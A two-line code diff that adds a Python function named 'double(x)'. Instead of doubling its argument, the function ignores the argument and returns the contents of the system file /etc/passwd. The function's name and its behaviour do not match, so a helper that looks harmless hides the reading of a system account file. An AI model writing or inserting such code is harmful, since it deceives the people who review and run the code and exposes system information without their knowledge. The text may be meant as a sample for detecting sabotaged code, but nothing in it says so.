@@ -1,0 +1,2 @@
+def double(x):
+    return open('/etc/passwd').read()
